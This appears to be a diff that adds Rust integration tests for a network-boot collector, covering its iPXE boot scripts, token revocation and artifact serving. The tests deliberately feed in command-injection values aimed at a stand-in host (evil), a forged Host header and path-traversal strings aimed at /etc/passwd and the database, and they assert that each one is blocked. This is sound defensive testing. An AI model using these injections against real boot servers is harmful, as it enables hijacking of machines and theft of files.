@@ -1,0 +1,250 @@
+//! Network boot: every boot script against its golden copy, hostile values, artifacts.
+
+use std::path::Path;
+
+use kiln_collector::config::Config;
+use kiln_protocol::wire::EventBatch;
+use serde_json::Value;
+
+use crate::common::*;
+
+/// Compares a rendered script with its golden copy (KILN_BLESS=1 rewrites it).
+fn golden(name: &str, text: &str) {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/golden")
+        .join(name);
+    if std::env::var_os("KILN_BLESS").is_some() {
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, text).unwrap();
+        return;
+    }
+    let want = std::fs::read_to_string(&path)
+        .unwrap_or_else(|_| panic!("{} missing; run with KILN_BLESS=1", path.display()));
+    assert_eq!(text, want, "{name} differs from its golden copy");
+}
+
+/// Blanks the per-boot token so a script can be compared.
+fn untoken(script: &str) -> String {
+    let mut out = String::new();
+    for word in script.split_inclusive(' ') {
+        match word.strip_prefix("kiln.token=") {
+            Some(rest) => out.push_str(&format!("kiln.token=TOKEN{}", &rest[64.min(rest.len())..])),
+            None => out.push_str(word),
+        }
+    }
+    out
+}
+
+#[test]
+fn every_boot_script_matches_its_golden_copy_and_hostile_values_never_reach_one() {
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    // The node's console is configured (nothing listens there; the capture just waits).
+    let access: Vec<kiln_collector::config::NodeAccess> =
+        serde_yaml::from_str("- mac: \"52:54:00:00:00:01\"\n  console: {tcp: \"127.0.0.1:9\"}\n")
+            .unwrap();
+    let config = Config {
+        default_suite: "plain".into(),
+        after_verify: "poweroff".into(),
+        nodes: access,
+        ..Config::default()
+    };
+    let server = rt.block_on(Server::start("ipxe", config));
+    std::fs::write(server.data.join("suites/plain.yaml"), SUITE).unwrap();
+    std::fs::write(
+        server.data.join("suites/with-memtest.yaml"),
+        "suite: m\ndescription: d\nmemtest: {passes: 2, report_mode: summary}\nsteps:\n  - name: tool\n    exec: {argv: [true]}\n",
+    )
+    .unwrap();
+    let base = server.base.clone();
+    let q = "mac=52-54-00-00-00-01&uuid=6f1a0c4e-0000-4000-8000-000000000001&serial=SN-1&manufacturer=QEMU&product=Standard%20PC&platform=pcbios&buildarch=i386";
+
+    let (status, boot) = raw_get(&base, "/boot.ipxe", "");
+    assert!(status.contains("200"), "{status}");
+    golden("boot.ipxe", &boot);
+    let (_, linux) = raw_get(&base, &format!("/ipxe?{q}"), "");
+    golden("linux.ipxe", &untoken(&linux));
+    // The agent starts with the boot's token (the run's first event).
+    let token = linux.split("kiln.token=").nth(1).unwrap()[..64].to_owned();
+    let client = reqwest::Client::new();
+    let batch = EventBatch {
+        events: full_run().into_iter().take(1).collect(),
+    };
+    let post = |token: &str| {
+        rt.block_on(
+            client
+                .post(format!("{base}/api/v1/runs/1/events"))
+                .bearer_auth(token)
+                .json(&batch)
+                .send(),
+        )
+        .unwrap()
+    };
+    assert_eq!(post(&token).status(), 200);
+    // Asking again within the Linux stage never issues a second token: the node rebooted (or
+    // its image did not boot), which fails the run, and its token is dead from then on.
+    let (_, done) = raw_get(&base, &format!("/ipxe?{q}"), "");
+    assert!(!done.contains("kiln.token="), "{done}");
+    golden("done-after-reboot.ipxe", &done);
+    let detail = rt.block_on(run_json(&client, &base, 1));
+    assert_eq!(detail["verdict"], "fail");
+    assert!(
+        detail["faults"].to_string().contains("unexpected reboot"),
+        "{detail}"
+    );
+    let r = post(&token);
+    assert_eq!(r.status(), 409);
+    assert!(
+        rt.block_on(r.text())
+            .unwrap()
+            .contains("run 1 is finished (verdict fail)")
+    );
+
+    let admin = server.admin_token();
+    let set = |body: Value, path: &str| {
+        let r = rt
+            .block_on(
+                client
+                    .post(format!("{base}{path}"))
+                    .bearer_auth(&admin)
+                    .json(&body)
+                    .send(),
+            )
+            .unwrap();
+        assert_eq!(r.status(), 200);
+    };
+    set(
+        serde_json::json!({ "select": { "node": 1 }, "mode": "hold" }),
+        "/api/v1/nodes/mode",
+    );
+    golden("hold.ipxe", &raw_get(&base, &format!("/ipxe?{q}"), "").1);
+    set(
+        serde_json::json!({ "select": { "node": 1 }, "mode": "local" }),
+        "/api/v1/nodes/mode",
+    );
+    golden("local.ipxe", &raw_get(&base, &format!("/ipxe?{q}"), "").1);
+    set(
+        serde_json::json!({ "select": { "node": 1 }, "suite": "with-memtest" }),
+        "/api/v1/nodes/suite",
+    );
+    set(
+        serde_json::json!({ "select": { "node": 1 }, "mode": "verify" }),
+        "/api/v1/nodes/mode",
+    );
+    let (_, memtest) = raw_get(&base, &format!("/ipxe?{q}"), "");
+    golden("memtest.ipxe", &memtest);
+    // Rebooting while memtest86+ runs is a fail, never a pass.
+    let (_, after) = raw_get(&base, &format!("/ipxe?{q}"), "");
+    assert!(after.contains("verification fail"), "{after}");
+
+    // Hostile values: a serial that would start a new command, a product with `${…}` and
+    // `&&`, a MAC that is not one. None of it may appear in a script.
+    let hostile = "mac=52-54-00-00-00-09&serial=x%0Achain%20http://evil/&product=%24%7Bnet0/mac%7D%20%26%26%20chain%20http://evil/&manufacturer=a||reboot";
+    let (status, script) = raw_get(&base, &format!("/ipxe?{hostile}"), "");
+    assert!(status.contains("200"), "{status}");
+    assert!(
+        !script.contains("evil") && !script.contains("reboot") && !script.contains("${net0"),
+        "{script}"
+    );
+    assert!(script.contains("(no serial)"), "{script}");
+    let (status, _) = raw_get(&base, "/ipxe?mac=not-a-mac", "");
+    assert!(status.contains("400"), "{status}");
+    let (status, _) = raw_get(&base, "/boot.ipxe", "Host: evil.example/x\r\n");
+    assert!(status.contains("200") || status.contains("400"), "{status}");
+}
+
+#[test]
+fn artifacts_are_served_with_ranges_and_etags_and_nothing_outside() {
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let server = rt.block_on(Server::start("artifacts", Config::default()));
+    let content: Vec<u8> = (0..100_000u32).map(|i| (i % 251) as u8).collect();
+    std::fs::write(server.data.join("artifacts/vmlinuz"), &content).unwrap();
+    std::fs::write(server.data.join("secret.txt"), b"secret").unwrap();
+    std::os::unix::fs::symlink(
+        server.data.join("secret.txt"),
+        server.data.join("artifacts/link"),
+    )
+    .unwrap();
+    let client = reqwest::Client::new();
+    let base = server.base.clone();
+    let (full, etag) = rt.block_on(async {
+        let r = client
+            .get(format!("{base}/artifacts/vmlinuz"))
+            .send()
+            .await
+            .unwrap();
+        let etag = r.headers()["etag"].to_str().unwrap().to_owned();
+        (r.bytes().await.unwrap(), etag)
+    });
+    assert_eq!(&full[..], &content[..]);
+    let sha = kiln_collector::store::queries::sha256_hex(&content);
+    assert_eq!(etag, format!("\"{sha}\""));
+    let (status, range, part) = rt.block_on(async {
+        let r = client
+            .get(format!("{base}/artifacts/vmlinuz"))
+            .header("range", "bytes=1000-1999")
+            .send()
+            .await
+            .unwrap();
+        (
+            r.status(),
+            r.headers()["content-range"].to_str().unwrap().to_owned(),
+            r.bytes().await.unwrap(),
+        )
+    });
+    assert_eq!(status, 206);
+    assert_eq!(range, "bytes 1000-1999/100000");
+    assert_eq!(&part[..], &content[1000..2000]);
+    let status = rt
+        .block_on(
+            client
+                .get(format!("{base}/artifacts/vmlinuz"))
+                .header("range", "bytes=200000-")
+                .send(),
+        )
+        .unwrap()
+        .status();
+    assert_eq!(status, 416);
+    let head = rt
+        .block_on(client.head(format!("{base}/artifacts/vmlinuz")).send())
+        .unwrap();
+    assert_eq!(head.headers()["content-length"], "100000");
+    let cached = rt
+        .block_on(
+            client
+                .get(format!("{base}/artifacts/vmlinuz"))
+                .header("if-none-match", &etag)
+                .send(),
+        )
+        .unwrap();
+    assert_eq!(cached.status(), 304);
+    let listing: Value = rt.block_on(async {
+        client
+            .get(format!("{base}/artifacts/"))
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap()
+    });
+    assert_eq!(listing[0]["name"], "vmlinuz");
+    assert_eq!(listing[0]["sha256"], sha.as_str());
+    for path in [
+        "/artifacts/../secret.txt",
+        "/artifacts/%2e%2e/secret.txt",
+        "/artifacts/%2E%2E%2Fsecret.txt",
+        "/artifacts//etc/passwd",
+        "/artifacts/link",
+        "/artifacts/..%2fkiln.sqlite",
+    ] {
+        let (status, body) = raw_get(&base, path, "");
+        assert!(
+            !body.contains("secret") || status.contains("404"),
+            "{path}: {status}"
+        );
+        assert!(
+            status.contains("404") || status.contains("400"),
+            "{path}: {status}"
+        );
+    }
+}
